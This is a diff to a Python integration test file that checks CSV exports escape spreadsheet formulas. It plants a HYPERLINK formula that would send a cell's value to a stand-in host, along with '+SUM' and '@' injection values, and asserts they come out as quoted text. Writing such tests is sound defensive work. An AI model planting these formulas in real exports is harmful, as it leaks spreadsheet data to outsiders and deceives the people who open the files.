@@ -19,7 +19,7 @@ from typing import Any
 import pytest
 from click.testing import Result
 from fastapi.testclient import TestClient
-from sqlalchemy import Engine
+from sqlalchemy import Engine, update
 from sqlalchemy.orm import Session, sessionmaker
 from typer.testing import CliRunner
 
@@ -27,8 +27,10 @@ from corridor.accounts import service as accounts_service
 from corridor.accounts.roles import Role
 from corridor.accounts.schemas import TokenIssue, UserCreate
 from corridor.analytics.cli import app as report_app
+from corridor.analytics.schemas import KpiReport, channel_days_csv, kpis_csv
 from corridor.app import create_app
 from corridor.config import Settings, get_settings
+from corridor.db.tables import ProfileVersionRow
 from corridor.db.uow import UnitOfWork
 from corridor.errors import InvalidInput
 from tests.integration.analytics import feedback_world
@@ -309,3 +311,51 @@ def test_report_formats_and_files(
     bad_day = report("kpis", "--from", "1 October", "--to", "2026-10-31")
     assert bad_day.exit_code == 2
     assert "--from" in bad_day.output
+
+
+# --------------------------------------------------------------------------- formulas
+
+HYPERLINK = '=HYPERLINK("http://example.test/?"&A1,"open")'
+
+
+def test_exports_cannot_carry_formulas(
+    client: TestClient,
+    staff: Staff,
+    session_factory: sessionmaker[Session],
+    report: Callable[..., Result],
+) -> None:
+    """A profile titled like a formula is written as text in every CSV rendering; numbers
+    stay numbers (spreadsheets read them as such)."""
+    with session_factory() as session:
+        session.execute(
+            update(ProfileVersionRow)
+            .where(ProfileVersionRow.code == "NAT-2026-0002")
+            .values(title=HYPERLINK)
+        )
+        session.commit()
+    analyst = staff.headers(Role.RISK_ANALYST)
+    response = client.get(PROFILES, params={"period": "2026-10", "format": "csv"}, headers=analyst)
+    assert response.status_code == 200
+    from_cli = report("profiles", "--period", "2026-10", "--format", "csv")
+    assert from_cli.exit_code == 0, from_cli.output
+    for text in (response.text, from_cli.output):
+        rows = {r["code"]: r for r in csv.DictReader(io.StringIO(text))}
+        assert rows["NAT-2026-0002"]["title"] == f"'{HYPERLINK}"
+        assert rows["NAT-2026-0002"]["hits"] == "1"
+        assert rows["RANDOM-CONTROL"]["title"] == "selected at random and by no profile"
+
+    # Office codes cannot hold a formula; the KPI renderings go through the same writer.
+    kpis = KpiReport.model_validate(
+        client.get(KPIS, params={"period": "2026-10"}, headers=analyst).json()
+    )
+    planted = kpis.model_copy(
+        update={
+            "offices": [kpis.offices[0].model_copy(update={"office": "+SUM(A1:A9)"})],
+            "days": [kpis.days[0].model_copy(update={"office": "@A1"})],
+        }
+    )
+    first = next(csv.DictReader(io.StringIO(kpis_csv(planted))))
+    assert first["office"] == "'+SUM(A1:A9)"
+    assert first["declarations"] == str(kpis.offices[0].declarations)
+    day = next(csv.DictReader(io.StringIO(channel_days_csv(planted))))
+    assert (day["office"], day["day"]) == ("'@A1", kpis.days[0].day.isoformat())
